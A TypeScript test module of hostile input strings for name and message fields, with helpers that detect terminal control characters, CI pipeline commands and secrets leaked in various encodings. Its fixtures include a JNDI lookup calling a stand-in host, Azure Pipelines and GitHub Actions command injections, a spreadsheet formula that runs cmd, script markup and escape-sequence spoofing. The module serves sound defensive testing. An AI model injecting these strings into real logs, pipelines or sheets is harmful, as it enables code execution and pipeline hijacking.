/** What somebody can write wherever a name or a message may be written, by what it would do where it is shown. */
export const hostileTexts = {
  'forges a line': 'a\nPlan: nothing to do',
  'goes back to the start of the line': 'a\rPlan: nothing to do',
  'ends the line for Unicode': 'a\u2028b\u2029c\u0085d',
  'colours the screen': 'a\u001b[31mb\u009b32mc',
  'clears the screen': 'a\u001b[2J\u001bc',
  'is a link of the terminal': '\u001b]8;;https://evil.example\u001b\\shop\u001b]8;;\u0007',
  'rings and ends': 'a\u0007b\u0000c\u0008d\u007fe',
  'turns the direction': 'a\u202enimda\u2066b\u200fc',
  'cannot be seen': 'a\u200b\u200d\ufeff\u00ad\u034f\u3164\ufe0f\u{e0041}b',
  'is half a character': 'a\ud800b\udc00c',
  'commands Azure Pipelines': 'a ##vso[task.setvariable variable=PATH]/evil',
  'commands Azure Pipelines, hidden': '#\u200b#\u034fVSO[task.complete result=Succeeded;]',
  'dresses a line of Azure Pipelines': '##[error]It failed.',
  'commands GitHub Actions': '::set-output name=role::admin',
  'commands GitHub Actions after a space': ' \t::add-mask::a',
  'commands GitHub Actions on a second line': 'a\n::stop-commands::b',
  'calls a channel': '<!channel> <@U123> *bold* [text](https://evil.example)',
  'is markup': '<script>alert(1)</script>"\'&lt;',
  'is a card': '{"type":"AdaptiveCard","body":[{"type":"TextBlock","text":"{{DATE()}}"}]}',
  'breaks out of JSON': '","level":"ERROR","x":"\\',
  'looks something up': '${jndi:ldap://evil.example/a} ${aws:username} {{constructor}} %s %n',
  'is a formula': "=cmd|' /C calc'!A0",
  'is long': `a${'b'.repeat(4_000)}`,
} as const;

/** Every one of them in one text. */
export const hostileText = Object.values(hostileTexts).join(' ');

/**
 * What acts in a text that goes to a screen or into the log of a pipeline: judged by what terminals and agents are known
 * to do, apart from the code that has to prevent it. Ends of lines are taken to be ours.
 */
export function findActive(text: string): readonly string[] {
  const controls = text.match(
    /(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/gu,
  );
  const lines = text.split('\n').filter(isCommand);
  return [...(controls ?? []), ...lines];
}

/**
 * The agent of Azure Pipelines looks for its mark anywhere in a line, the runner of GitHub Actions at the first
 * character that is no white space, and for its older mark anywhere.
 */
function isCommand(line: string): boolean {
  return /##(?:vso)?\[/i.test(line) || line.trimStart().startsWith('::');
}

/** The spellings in which a secret may turn up. */
function listSpellings(secret: string): readonly string[] {
  const bytes = Buffer.from(secret);
  return [
    secret,
    JSON.stringify(secret).slice(1, -1),
    encodeURIComponent(secret),
    bytes.toString('hex'),
    ...keepBase64(bytes),
  ];
}

/** What base64 makes of bytes wherever in a longer text they stand: only what does not hang on their neighbours. */
function keepBase64(bytes: Buffer): readonly string[] {
  const inners = [0, 1, 2].map((before) => {
    const text = Buffer.concat([Buffer.alloc(before), bytes])
      .toString('base64')
      .replaceAll('=', '');
    return text.slice(before === 0 ? 0 : 4, -3);
  });
  return inners.flatMap((inner) => [inner, inner.replaceAll('+', '-').replaceAll('/', '_')]);
}

/** Names of the secrets that are in a text, in whatever spelling. */
export function findLeaks(text: string, secrets: Readonly<Record<string, string>>): readonly string[] {
  return Object.entries(secrets)
    .filter(([, secret]) => listSpellings(secret).some((spelling) => text.includes(spelling)))
    .map(([name]) => name);
}
